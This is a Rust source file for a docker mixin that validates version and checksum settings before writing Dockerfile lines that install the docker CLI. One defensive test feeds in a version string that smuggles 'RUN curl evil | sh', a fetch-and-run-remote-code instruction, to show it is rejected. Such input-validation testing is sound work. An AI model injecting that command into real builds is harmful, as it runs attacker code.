//! The mixin's configuration and how a docker CLI gets into the invocation
//! image.
//!
//! ```yaml
//! mixins:
//!   - docker                      # Debian's docker.io, through apt
//!   - docker:
//!       clientVersion: 20.10.7    # Docker's static CLI at that version
//!       clientSha256: 34ad50...   # optional (Wharf): the tarball's sha256
//! ```
//!
//! Porter's docker mixin always downloads Docker's static tarball, at
//! 20.10.7 unless `clientVersion` says otherwise, with no checksum. Wharf
//! makes two honest choices instead:
//!
//! - **no `clientVersion`**: `apt-get install docker.io`. apt checks every
//!   package against the archive's signed Release file, so the CLI is
//!   verified without a checksum in porter.yaml. It needs an apt-based
//!   base image (Porter's default, `debian:stable-slim`, is one) and
//!   installs Debian's whole docker.io package (the daemon's files too: in
//!   Debian 12 no package holds the CLI alone).
//! - **`clientVersion`**: Docker's static tarball
//!   `download.docker.com/linux/static/stable/x86_64/docker-<v>.tgz`, as a
//!   [`Download`] whose `docker/docker` member lands in `/usr/local/bin`;
//!   Wharf writes the lines (`curl` or `wget`, `tar`, `sha256sum`). Docker
//!   publishes no checksums for these tarballs, so Wharf cannot verify one
//!   by itself; the author may pin one with `clientSha256` (a Wharf
//!   addition), which the build then checks, and lint warns when it is
//!   missing.
//!
//! Both values are checked before they reach the Dockerfile, so a version
//! cannot smuggle in an instruction.

use mixin_sdk::{Contribution, Download};
use serde::de::{self, Deserializer};
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};

/// Where Docker publishes its static x86_64 builds.
pub const STATIC_BASE_URL: &str = "https://download.docker.com/linux/static/stable/x86_64";

/// Where the CLI is installed from the static tarball.
pub const STATIC_CLI_PATH: &str = "/usr/local/bin/docker";

/// The docker mixin's `mixins:` configuration.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Config {
    /// The static docker CLI's version, such as `20.10.7`; none means
    /// Debian's docker.io.
    #[serde(
        default,
        rename = "clientVersion",
        deserialize_with = "optional_scalar",
        skip_serializing_if = "Option::is_none"
    )]
    pub client_version: Option<String>,
    /// The sha256 of `docker-<clientVersion>.tgz` (a Wharf addition).
    #[serde(
        default,
        rename = "clientSha256",
        deserialize_with = "optional_scalar",
        skip_serializing_if = "Option::is_none"
    )]
    pub client_sha256: Option<String>,
}

/// A problem in the configuration that stops the build.
pub fn config_errors(config: &Config) -> Vec<String> {
    let mut errors = Vec::new();
    if let Some(version) = &config.client_version
        && !is_version(version)
    {
        errors.push(format!(
            "clientVersion {version:?} is not a Docker release version such as 20.10.7"
        ));
    }
    match (&config.client_version, &config.client_sha256) {
        (_, Some(sum)) if !is_sha256(sum) => errors.push(format!(
            "clientSha256 {sum:?} is not a sha256 checksum (64 hexadecimal digits)"
        )),
        (None, Some(_)) => errors.push(
            "clientSha256 checks the static CLI that clientVersion selects; \
             set clientVersion too, or remove clientSha256 (apt verifies docker.io itself)"
                .to_string(),
        ),
        _ => {}
    }
    errors
}

/// `20.10.7`, `17.03.0-ce`, `24.0.0-rc.1`: digits first, then only
/// characters a release name uses.
fn is_version(v: &str) -> bool {
    v.starts_with(|c: char| c.is_ascii_digit())
        && v.len() <= 64
        && v.chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-')
}

fn is_sha256(s: &str) -> bool {
    s.len() == 64 && s.chars().all(|c| c.is_ascii_hexdigit())
}

/// What installs the docker CLI, or the configuration problems that
/// prevent it.
pub fn contributions(config: &Config) -> Result<Vec<Contribution>, String> {
    let errors = config_errors(config);
    if !errors.is_empty() {
        return Err(errors.join("; "));
    }
    let Some(version) = &config.client_version else {
        return Ok(vec![Contribution::debian_packages(["docker.io"])]);
    };
    let download = Download::new(
        format!("{STATIC_BASE_URL}/docker-{version}.tgz"),
        STATIC_CLI_PATH,
    )
    .archive_member("docker/docker");
    Ok(vec![
        match &config.client_sha256 {
            Some(sum) => download.sha256(sum.to_ascii_lowercase()),
            None => download,
        }
        .into(),
    ])
}

/// The JSON Schema of the configuration.
pub fn schema() -> Value {
    json!({
        "description": "The docker mixin's configuration",
        "type": "object",
        "properties": {
            "clientVersion": {
                "description": "Install Docker's static CLI at this version (for example 20.10.7) instead of Debian's docker.io",
                "type": "string"
            },
            "clientSha256": {
                "description": "The sha256 of docker-<clientVersion>.tgz, checked when the image is built",
                "type": "string",
                "pattern": "^[0-9a-fA-F]{64}$"
            }
        },
        "additionalProperties": false
    })
}

fn optional_scalar<'de, D: Deserializer<'de>>(d: D) -> Result<Option<String>, D::Error> {
    match Value::deserialize(d)? {
        Value::Null => Ok(None),
        Value::String(s) => Ok(Some(s)),
        Value::Number(n) => Ok(Some(n.to_string())),
        other => Err(de::Error::custom(format!(
            "expected a version string, found {other}"
        ))),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(value: Value) -> Config {
        serde_json::from_value(value).unwrap()
    }

    #[test]
    fn no_version_installs_debians_docker_io_through_apt() {
        assert_eq!(
            contributions(&Config::default()).unwrap(),
            [Contribution::debian_packages(["docker.io"])]
        );
    }

    #[test]
    fn a_version_downloads_the_static_cli_and_keeps_only_docker() {
        let made = contributions(&config(json!({"clientVersion": "20.10.7"}))).unwrap();
        assert_eq!(
            made,
            [Contribution::Client(
                Download::new(
                    "https://download.docker.com/linux/static/stable/x86_64/docker-20.10.7.tgz",
                    "/usr/local/bin/docker"
                )
                .archive_member("docker/docker")
            )]
        );
    }

    #[test]
    fn a_pinned_checksum_is_checked() {
        let sum = "AB".repeat(32);
        let made = contributions(&config(
            json!({"clientVersion": "19.03.8", "clientSha256": sum}),
        ))
        .unwrap();
        let Contribution::Client(download) = &made[0] else {
            panic!("{made:?}");
        };
        assert_eq!(
            download.checksum,
            mixin_sdk::Checksum::Sha256("ab".repeat(32))
        );
    }

    #[test]
    fn bad_values_never_reach_the_dockerfile() {
        for bad in [
            json!({"clientVersion": "20.10.7\nRUN curl evil | sh"}),
            json!({"clientVersion": "latest"}),
            json!({"clientVersion": "20.10.7", "clientSha256": "abc"}),
            json!({"clientSha256": "ab".repeat(32)}),
        ] {
            let err = contributions(&config(bad.clone())).unwrap_err();
            assert!(!err.is_empty(), "{bad}");
        }
        assert!(is_version("17.03.0-ce"));
    }

    #[test]
    fn unknown_keys_are_refused() {
        assert!(serde_json::from_value::<Config>(json!({"clientversion": "1"})).is_err());
    }
}
